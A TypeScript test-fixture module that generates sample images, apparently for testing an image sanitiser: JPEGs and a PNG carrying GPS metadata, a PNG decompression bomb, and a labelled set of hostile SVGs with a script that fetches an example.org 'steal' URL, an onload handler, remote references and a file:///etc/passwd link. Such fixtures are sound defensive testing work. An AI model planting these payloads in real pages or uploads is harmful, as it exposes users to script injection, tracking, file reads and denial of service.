import sharp from 'sharp';
import { deflateSync } from 'node:zlib';

/** A photo as a phone writes it: a JPEG whose EXIF carries the camera, GPS position and a rotation. */
export async function jpegWithGps(width = 64, height = 48): Promise<Uint8Array> {
  const pixels = await sharp({ create: { width, height, channels: 3, background: { r: 200, g: 40, b: 40 } } })
    .jpeg()
    .withExif({
      IFD0: { Make: 'PressCam', Model: 'Field 7', Copyright: 'Ministry press office' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '40/1 24/1 2000/100', GPSLongitudeRef: 'E', GPSLongitude: '49/1 52/1 1000/100' },
    })
    .toBuffer();
  return new Uint8Array(pixels);
}

/** A plain PNG of one colour, with a tEXt chunk (a comment an editor left) before its pixels. */
export async function pngWithText(width = 40, height = 30, colour = { r: 30, g: 90, b: 200 }): Promise<Uint8Array> {
  const png = await sharp({ create: { width, height, channels: 3, background: colour } })
    .png()
    .toBuffer();
  // Insert a tEXt chunk right after IHDR (8-byte signature + 25-byte IHDR chunk).
  const text = chunk('tEXt', Buffer.from('Comment\0Shot at 40.4 N 49.9 E by PressCam', 'latin1'));
  return new Uint8Array(Buffer.concat([png.subarray(0, 33), text, png.subarray(33)]));
}

/** An image bomb: a valid 90-byte PNG that declares 100,000 × 100,000 pixels. */
export function pngBomb(): Uint8Array {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(100_000, 0);
  header.writeUInt32BE(100_000, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, no interlace
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return new Uint8Array(Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(16))), chunk('IEND', Buffer.alloc(0))]));
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

export const friendlySvg = `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60" viewBox="0 0 120 60"><defs><linearGradient id="g"><stop offset="0" stop-color="#0a5"/><stop offset="1" stop-color="#05a"/></linearGradient></defs><rect width="120" height="60" fill="url(#g)"/><circle cx="30" cy="30" r="20" fill="#fff"/></svg>`;

/** SVGs that must never reach a page: a script, an event handler, a remote image, a remote stylesheet, a foreign object. */
export const hostileSvgs = {
  script: `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch('https://example.org/steal')</script><rect width="10" height="10"/></svg>`,
  handler: `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><rect width="10" height="10"/></svg>`,
  remoteImage: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><image href="https://example.org/track.png" width="10" height="10"/></svg>`,
  localFile: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><image xlink:href="file:///etc/passwd" width="10" height="10"/></svg>`,
  remoteStyle: `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><style>@import url(https://example.org/x.css);</style><rect width="10" height="10"/></svg>`,
  remoteFill: `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" style="fill: url(https://example.org/p.svg#x)"/></svg>`,
  foreignObject: `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://example.org"></iframe></foreignObject></svg>`,
} as const;

/** A photo-like JPEG (a sky-to-sea gradient with a sun) whose EXIF carries the camera and a GPS position, as a phone writes it. */
export async function photoWithGps(width = 800, height = 500): Promise<Uint8Array> {
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><defs><linearGradient id="s" x1="0" y1="0" x2="0" y2="1"><stop offset="0" stop-color="#4a90d9"/><stop offset="0.6" stop-color="#cfe8ff"/><stop offset="0.6" stop-color="#1d5f8a"/><stop offset="1" stop-color="#0b3350"/></linearGradient></defs><rect width="100%" height="100%" fill="url(#s)"/><circle cx="${width * 0.7}" cy="${height * 0.35}" r="${height * 0.12}" fill="#ffd23f"/></svg>`;
  const jpeg = await sharp(Buffer.from(drawing))
    .jpeg({ quality: 85 })
    .withExif({
      IFD0: { Make: 'PressCam', Model: 'Field 7' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '40/1 24/1 2000/100', GPSLongitudeRef: 'E', GPSLongitude: '49/1 52/1 1000/100' },
    })
    .toBuffer();
  return new Uint8Array(jpeg);
}
